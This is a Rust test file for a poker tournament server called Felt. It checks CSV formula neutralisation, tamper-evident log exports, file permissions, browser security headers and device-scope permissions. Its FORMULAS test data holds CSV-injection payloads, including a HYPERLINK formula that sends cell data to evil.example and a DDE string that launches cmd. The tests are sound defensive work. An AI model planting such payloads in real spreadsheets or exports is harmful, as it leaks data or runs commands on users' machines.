//! Never down during an event: each reported fault sent as it was found, at the door it was
//! found at. A refused change changes nothing; what Felt writes cannot be turned against
//! the TD (a spreadsheet formula, a log cut short, a file another user reads); the LAN is
//! not trusted (scopes list what they allow, every answer carries the browser's guards).

use crate::support;
use felt::api::Felt;
use felt::api::devices::{Device, DeviceScope};
use felt_core::engine::{
    ClockAction, Command, CountCommand, FieldCommand, HistoryCommand, MoneyCommand, RoomCommand,
    SeatingCommand, StructureCommand,
};
use serde_json::{Value, json};
use support::{Server, felt, get, ok_at, play_home, post, send};

/// `PUT /api/library/ID` with a key no structure file can hold answered 422 but replaced
/// the structure, and every later read of it failed: now nothing is written.
#[test]
fn a_refused_library_save_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("felt.db");
    let server = Server::start(&db);
    let t = Some(server.token.as_str());
    let (status, made) = post(
        &server.url("/api/library"),
        t,
        json!({"from": "template", "template": "nlhe-bba"}),
    );
    assert_eq!(status, 201, "{made}");
    let id = made["id"].as_i64().unwrap();
    let (_, before) = get(&server.url(&format!("/api/library/{id}")));
    let exported = ok_at(
        db.to_str().unwrap(),
        &["library", "export", &id.to_string()],
    );
    let (status, refused) = send(
        "PUT",
        &server.url(&format!("/api/library/{id}")),
        t,
        Some(json!({"draft": {"name": "Minimal", "weird\nkey": 1}})),
    );
    assert_eq!(
        (status, refused["code"].as_str()),
        (422, Some("draft-refused")),
        "{refused}"
    );
    let (status, after) = get(&server.url(&format!("/api/library/{id}")));
    assert_eq!(status, 200, "{after}");
    assert_eq!(after, before);
    let again = ok_at(
        db.to_str().unwrap(),
        &["library", "export", &id.to_string()],
    );
    assert_eq!(again, exported);
    assert!(toml::from_str::<toml::Table>(&again).is_ok(), "{again}");
}

/// Player names a spreadsheet would read as formulas.
const FORMULAS: [&str; 3] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
];

/// The cells of `csv` (RFC 4180), row by row.
fn cells(csv: &str) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes());
    r.records()
        .map(|x| x.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// A player named like a formula is written as text in every CSV Felt writes (the
/// results and the register's export), and Felt's own import reads the export back to
/// the same names. An unterminated quote is refused at its line.
#[test]
fn csv_cells_that_would_start_a_formula_are_written_as_text_and_read_back_unchanged() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("felt.db");
    let dbs = db.to_str().unwrap();
    // An event's results: three formula names and a winner.
    let mut order: Vec<&str> = FORMULAS.to_vec();
    order.push("Ann");
    let id = play_home(dbs, &order);
    let server = Server::start(&db);
    let results = support::get_page(&server.url(&format!("/api/events/{id}/results.csv"))).body;
    let names: Vec<String> = cells(&results)[1..].iter().map(|r| r[1].clone()).collect();
    for f in FORMULAS {
        assert!(names.contains(&format!("'{f}")), "{f} in {results}");
    }
    assert!(names.contains(&"Ann".to_string()));
    // The register: an import of the same names (a tab before one, as a reported file had
    // it: the reader trims it), the export, and the export imported again elsewhere.
    let t = Some(server.token.as_str());
    let csv_in = "name,club\n\"\t=1+1\",Reno\nZoë Ångström,'=club\n-2+3,Elko\n";
    let (status, report) = post(
        &server.url("/api/register/import"),
        t,
        json!({"csv": csv_in, "commit": true}),
    );
    assert_eq!(status, 200, "{report}");
    let r = support::agent()
        .get(server.url("/api/register/export.csv"))
        .header("Authorization", &format!("Bearer {}", server.token))
        .call();
    let export = r.unwrap().body_mut().read_to_string().unwrap();
    let rows = cells(&export);
    let mut dangerous = 0;
    for row in &rows[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula in {row:?}"
            );
            dangerous += usize::from(cell.starts_with('\''));
        }
    }
    assert!(dangerous >= FORMULAS.len() + 3, "{export}");
    let other = tempfile::tempdir().unwrap();
    let second = Server::start(&other.path().join("felt.db"));
    // Another installation's ids mean nothing here: that column is left out.
    let (status, report) = post(
        &second.url("/api/register/import"),
        Some(&second.token),
        json!({"csv": export, "commit": true, "mapping": {"id": "skip"}}),
    );
    assert_eq!(status, 200, "{report}");
    let names_of = |s: &Server| {
        let (_, list) = send("GET", &s.url("/api/register"), Some(&s.token), None);
        let mut n: Vec<String> = list
            .as_array()
            .unwrap()
            .iter()
            .map(|p| format!("{}|{}", p["name"], p["club"]))
            .collect();
        n.sort();
        n
    };
    assert_eq!(names_of(&second), names_of(&server));
    assert!(
        names_of(&second).contains(&"\"=1+1\"|\"Reno\"".to_string()),
        "{:?}",
        names_of(&second)
    );
    // An apostrophe before a formula is a spreadsheet's mark for text: '=club is "=club",
    // as a spreadsheet shows it.
    assert!(
        names_of(&second).contains(&"\"Zoë Ångström\"|\"=club\"".to_string()),
        "{:?}",
        names_of(&second)
    );
    // A quote never closed: refused at the line it opens on, nothing kept.
    let (status, refused) = post(
        &server.url("/api/register/import"),
        t,
        json!({"csv": "name,club\nBo,Reno\n\"Cy,Elko\nDee,Ely\n", "commit": true}),
    );
    assert_eq!(
        (status, refused["message"].as_str()),
        (
            422,
            Some(
                "line 3: a quote opens a value that is never closed (a value in quotes ends with a quote; a quote inside it is written twice)"
            )
        )
    );
    assert!(!names_of(&server).iter().any(|n| n.contains("Bo")));
}

/// A log export with its last records removed verified as intact, and an empty file
/// with exit 0: an export now states its count and last hash, and a copy cut short,
/// emptied, reordered or stripped of that statement fails.
#[test]
fn a_log_export_cut_short_emptied_or_reordered_fails_verification() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("felt.db");
    let dbs = db.to_str().unwrap();
    let id = play_home(dbs, &["Ann", "Bob", "Cy", "Dee"]);
    let file = dir.path().join("log.jsonl");
    ok_at(dbs, &["log", "export", &id, "-o", file.to_str().unwrap()]);
    let whole = std::fs::read_to_string(&file).unwrap();
    let lines: Vec<&str> = whole.lines().collect();
    assert!(lines[0].contains("\"felt_log_export\":1"), "{}", lines[0]);
    let verify = |text: &str| {
        let f = dir.path().join("check.jsonl");
        std::fs::write(&f, text).unwrap();
        felt(&["log", "verify", "--file", f.to_str().unwrap()])
    };
    let (code, out, err) = verify(&whole);
    assert_eq!(code, 0, "{out}{err}");
    let n = lines.len() - 1;
    let cut = lines[..lines.len() - 1].join("\n");
    let mut swapped = lines.clone();
    swapped.swap(2, 3);
    let cases: [(String, String); 4] = [
        (
            cut,
            format!(
                "The export says it holds {n} records but {} are in the file",
                n - 1
            ),
        ),
        (String::new(), "The export holds no records".to_string()),
        (swapped.join("\n"), "does not fit the chain".to_string()),
        (lines[1..].join("\n"), "it has no seal line".to_string()),
    ];
    for (text, words) in cases {
        let (code, out, err) = verify(&text);
        assert_eq!(code, 1, "{out}{err}");
        assert!(out.contains(&words), "{words}: {out}");
    }
    // The whole-event export is held to its seal the same way.
    let x = dir.path().join("event.json");
    ok_at(dbs, &["event", "export", &id, "-o", x.to_str().unwrap()]);
    let mut doc: Value = serde_json::from_str(&std::fs::read_to_string(&x).unwrap()).unwrap();
    assert_eq!(doc["seal"]["records"].as_u64(), Some(n as u64));
    doc["records"].as_array_mut().unwrap().pop();
    let (code, out, _) = verify(&doc.to_string());
    assert_eq!(code, 1);
    assert!(out.contains("records were removed"), "{out}");
}

/// Mode bits of `path`.
#[cfg(unix)]
fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// `deleted-events/` was made 0755 with 0644 files beside an owner-only database.
#[cfg(unix)]
#[test]
fn everything_felt_writes_into_its_data_folder_is_owner_only() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let db = data.join("felt.db");
    let server = Server::start(&db);
    let id = server.example_event();
    let (status, deleted) = send(
        "DELETE",
        &server.url(&format!("/api/events/{id}")),
        Some(&server.token),
        None,
    );
    assert_eq!(status, 200, "{deleted}");
    let export = std::path::PathBuf::from(deleted["export"].as_str().unwrap());
    assert_eq!(mode(&data), 0o700);
    assert_eq!(mode(export.parent().unwrap()), 0o700);
    for entry in std::fs::read_dir(&data).unwrap() {
        let path = entry.unwrap().path();
        if path.is_file() {
            assert_eq!(mode(&path), 0o600, "{}", path.display());
        }
    }
    assert_eq!(mode(&export), 0o600);
}

/// The security headers of `url`'s answer (and its status and content type).
fn headers(url: &str, host: Option<&str>) -> (u16, Vec<(String, String)>) {
    let mut req = support::agent().get(url);
    if let Some(h) = host {
        req = req.header("Host", h);
    }
    let r = req.call().unwrap();
    let wanted = [
        "content-type",
        "x-content-type-options",
        "content-security-policy",
        "x-frame-options",
        "referrer-policy",
    ];
    let found = wanted
        .iter()
        .map(|n| {
            let v = r
                .headers()
                .get(*n)
                .and_then(|v| v.to_str().ok())
                .unwrap_or("")
                .to_string();
            (n.to_string(), v)
        })
        .collect();
    (r.status().as_u16(), found)
}

/// Every page, file and answer carries nosniff, the Content-Security-Policy (no inline
/// script, connections and images to this server), a refusal to be framed and no
/// referrer; a slide comes back with its own image type.
#[test]
fn every_answer_carries_the_browsers_guards() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("felt.db"));
    let png = std::fs::read("tests/fixtures/slides/sponsor.png").unwrap();
    let data = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(&png)
    };
    let (status, slide) = post(
        &server.url("/api/slides"),
        Some(&server.token),
        json!({"name": "Sponsor", "data": data}),
    );
    assert_eq!(status, 200, "{slide}");
    let index = support::get_page(&server.url("/")).body;
    let script = index
        .split("src=\"")
        .nth(1)
        .map(|s| s.split('"').next().unwrap().to_string())
        .unwrap_or_else(|| "/felt-fallback.js".into());
    assert!(!index.contains("<script>"), "no inline script: {index}");
    let paths = [
        ("/", None, 200),
        ("/console/1", None, 200),
        (script.as_str(), None, 200),
        ("/api/events", None, 200),
        ("/api/events/1/paper/sheet.pdf", None, 200),
        ("/api/nope", None, 404),
        (slide["url"].as_str().unwrap(), None, 200),
        ("/api/events", Some("evil.example"), 421),
    ];
    for (path, host, want) in paths {
        let (status, found) = headers(&server.url(path), host);
        assert_eq!(status, want, "{path}");
        let h = |n: &str| found.iter().find(|(k, _)| k == n).unwrap().1.clone();
        assert_eq!(h("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(h("x-frame-options"), "DENY", "{path}");
        assert_eq!(h("referrer-policy"), "no-referrer", "{path}");
        let csp = h("content-security-policy");
        for part in [
            "default-src 'self'",
            "script-src 'self';",
            "connect-src 'self'",
            "frame-ancestors 'none'",
        ] {
            assert!(csp.contains(part), "{path}: {csp}");
        }
        assert!(!csp.contains("unsafe-eval"), "{csp}");
        if path.starts_with("/api/slides/") {
            assert_eq!(h("content-type"), "image/png");
        }
    }
}

/// One command of every name, as a door sends it (tables 1, the player seated first at
/// table 1). A new command name fails this test until its line here says what it is.
fn sample(name: &str, at_table_1: u32) -> Value {
    let p = at_table_1;
    match name {
        "go_to" => json!({"type": name, "period": 1}),
        "set_remaining" | "add_time" => json!({"type": name, "ms": 60_000}),
        "adjust" => json!({"type": name, "counter": "entries", "delta": 1}),
        "register" => json!({"type": name, "name": "Zed"}),
        "register_many" => json!({"type": name, "players": [{"name": "Yan"}, {"name": "Xu"}]}),
        "unregister" | "redeem_lammers" => json!({"type": name, "player": p}),
        "re_enter" => json!({"type": name, "player": p}),
        "bust" => json!({"type": name, "player": p}),
        "purchase" => json!({"type": name, "player": p, "kind": "rebuy"}),
        "record_counts" => json!({"type": name, "counts": [{"player": p, "chips": 100}]}),
        "carry_in" => json!({"type": name, "flights": [], "players": [], "rule": "best_stack"}),
        "chip_race_done" => {
            json!({"type": name, "table": 1, "removed_value": 0, "added_value": 0})
        }
        "commit_draw" | "draw_seats" | "seat_alternates" | "next_round" | "redraw" => {
            json!({"type": name})
        }
        "confirm_moves" => json!({"type": name, "seed": 1, "moves": []}),
        "set_button" => json!({"type": name, "table": 1, "seat": 1}),
        "hand_won" => json!({"type": name, "table": 1, "seats": [1]}),
        "hold_seat" => json!({"type": name, "at": {"table": 1, "seat": 1}, "hold": "locked"}),
        "table_won" => json!({"type": name, "table": 1, "players": [p]}),
        "hard_stop" => json!({"type": name, "counts": [{"player": p, "chips": 100}]}),
        "hand_for_hand" => json!({"type": name, "on": true}),
        "hand_for_hand_hand" => json!({"type": name}),
        "table_hand_done" => json!({"type": name, "table": 1}),
        "deal" => {
            json!({"type": name, "method": "chop", "players": [p], "amounts": [1], "play_for": 0})
        }
        "savers" => json!({"type": name, "amounts": [100], "agreed": [p]}),
        "period_minutes" => json!({"type": name, "period": 1, "minutes": 20}),
        "add_level" => json!({"type": name, "stakes": "100/200"}),
        "add_break" => json!({"type": name, "minutes": 10}),
        "break_now" => json!({"type": name, "minutes": 10}),
        "edit_level" => json!({"type": name, "period": 3, "stakes": "300/600"}),
        "announce" => json!({"type": name, "text": "Table 3 breaks"}),
        "set_language" => json!({"type": name, "lang": "de"}),
        "undo_to" | "redo_to" => json!({"type": name, "seq": 1}),
        "start" | "pause" | "resume" | "next_level" | "previous_level" | "end_day"
        | "lammer_deadline" | "lock_payouts" | "unlock_payouts" | "extend"
        | "clear_announcement" | "undo" | "redo" => json!({"type": name}),
        other => panic!("a new command {other}: add it here and decide its scopes"),
    }
}

/// Desk-scoped devices were allowed every command group not named (`_ => Ok(())`):
/// every command name is walked against every scope, and each verdict is the one the
/// scope lists.
#[test]
fn every_command_is_walked_against_every_device_scope() {
    let dir = tempfile::tempdir().unwrap();
    let felt = Felt::open(&dir.path().join("felt.db")).unwrap();
    let text = std::fs::read_to_string("structures/example-nlhe-bba.toml").unwrap();
    let id = felt.create_event("e.toml", &text).unwrap().id;
    for n in 0..12 {
        let cmd: Command =
            serde_json::from_value(json!({"type": "register", "name": format!("P{n}")})).unwrap();
        felt.execute(id, &cmd).unwrap();
    }
    felt.execute(
        id,
        &serde_json::from_value(json!({"type": "draw_seats", "seed": 3})).unwrap(),
    )
    .unwrap();
    let field = felt.field_view(id).unwrap();
    let at_table_1 = field.tables[0].seats.iter().find_map(|s| s.player).unwrap();
    let device = |scope: DeviceScope, table: Option<u32>| Device {
        id: 1,
        name: "Floor phone".into(),
        scope,
        event: id,
        table,
        what: String::new(),
        created_at_ms: 0,
        last_used_at_ms: None,
        revoked_at_ms: None,
    };
    let clock = device(DeviceScope::Clock, None);
    let desk = device(DeviceScope::Desk, None);
    let table = device(DeviceScope::Table, Some(1));
    let groups: [(&[&str], &str); 8] = [
        (ClockAction::NAMES, "clock"),
        (CountCommand::NAMES, "count"),
        (FieldCommand::NAMES, "field"),
        (SeatingCommand::NAMES, "seating"),
        (MoneyCommand::NAMES, "money"),
        (StructureCommand::NAMES, "structure"),
        (RoomCommand::NAMES, "room"),
        (HistoryCommand::NAMES, "history"),
    ];
    let table_commands = [
        "bust",
        "record_counts",
        "set_button",
        "hand_won",
        "table_won",
        "table_hand_done",
    ];
    let mut walked = 0;
    for (names, group) in groups {
        for name in names {
            let command: Command = serde_json::from_value(sample(name, at_table_1))
                .unwrap_or_else(|e| panic!("{name}: {e}"));
            let verdicts = [
                (&clock, group == "clock"),
                (
                    &desk,
                    matches!(
                        group,
                        "clock" | "count" | "field" | "seating" | "room" | "history"
                    ),
                ),
                (&table, table_commands.contains(name)),
            ];
            for (d, allowed) in verdicts {
                let got = felt.device_may(d, id, &command);
                assert_eq!(
                    got.is_ok(),
                    allowed,
                    "{name} by a {:?} device: {got:?}",
                    d.scope
                );
                if let Err(e) = got {
                    assert_eq!(e.code(), "device-scope");
                }
            }
            walked += 1;
        }
    }
    assert_eq!(walked, Command::names().len());
    // A desk device may not undo what it may not do: the TD's level added.
    let add: Command =
        serde_json::from_value(json!({"type": "add_level", "stakes": "100/200"})).unwrap();
    felt.execute(id, &add).unwrap();
    let undo: Command = serde_json::from_value(json!({"type": "undo"})).unwrap();
    let refused = felt.device_may(&desk, id, &undo).unwrap_err();
    assert!(
        refused.to_string().contains("takes back the structure"),
        "{refused}"
    );
    // Another event is never the device's.
    let other = felt.create_event("e.toml", &text).unwrap().id;
    assert!(felt.device_may(&desk, other, &undo).is_err());
}

/// Errors a person can act on, at the terminal: the number that is wrong, in words a TD
/// reads (not "must be at least 1, got 3" for --advance 0, nor a 309-digit number for
/// --top-share 1e308), and a night's size limit.
#[test]
fn the_terminal_names_the_value_at_fault() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("felt.db");
    let dbs = db.to_str().unwrap();
    let cases: [(Vec<String>, &str); 3] = [
        (
            [
                "seat",
                "--players",
                "20",
                "--seats",
                "9",
                "--shootout",
                "--advance",
                "0",
            ]
            .map(String::from)
            .to_vec(),
            "players advancing from each table must be at least 1, got 0",
        ),
        (
            [
                "payouts",
                "--entries",
                "100",
                "--pool",
                "100000",
                "--curve",
                "--top-share",
                "1e308",
            ]
            .map(String::from)
            .to_vec(),
            "a top share of 1e308 is outside what the pool allows",
        ),
        (
            vec![
                "night".into(),
                "create".into(),
                "Big night".into(),
                "--players".into(),
                (1..=41)
                    .map(|i| format!("P{i}"))
                    .collect::<Vec<_>>()
                    .join(","),
                "--db".into(),
                dbs.into(),
            ],
            "the night has 41 players, more than the limit of 40",
        ),
    ];
    for (args, words) in cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let (code, _, err) = felt(&args);
        assert_eq!(code, 1, "{args:?}: {err}");
        assert!(err.contains(words), "{args:?}: {err}");
        assert!(err.len() < 300, "{err}");
    }
}

/// The mismatches the property test found between the document and the answers: a named
/// command without a field it needs is refused as that command's (422, naming the
/// field), never as an unreadable request; a whole number sent as `1.0` is read; a
/// device that does not exist is a 404; slides and the register refuse with codes of
/// their own.
#[test]
fn answers_agree_with_the_document() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("felt.db"));
    let t = Some(server.token.as_str());
    let (status, body) = post(&server.url("/api/events/1/commands/redo_to"), t, json!({}));
    assert_eq!(
        (status, body["code"].as_str()),
        (422, Some("command-invalid")),
        "{body}"
    );
    assert!(body["message"].as_str().unwrap().contains("seq"), "{body}");
    let (status, body) = post(
        &server.url("/api/events/1/commands"),
        t,
        json!({"type": "adjust", "counter": "entries", "delta": 1.0}),
    );
    assert_eq!(status, 200, "{body}");
    let (status, body) = send("DELETE", &server.url("/api/devices/999"), t, None);
    assert_eq!(
        (status, body["code"].as_str()),
        (404, Some("no-such-device")),
        "{body}"
    );
    let (status, body) = post(
        &server.url("/api/slides"),
        t,
        json!({"name": "Notes", "data": "PHN2Zz4="}),
    );
    assert_eq!(
        (status, body["code"].as_str()),
        (422, Some("slide-refused")),
        "{body}"
    );
    let (status, body) = post(&server.url("/api/register"), t, json!({"name": ""}));
    assert_eq!(
        (status, body["code"].as_str()),
        (422, Some("register-refused")),
        "{body}"
    );
}
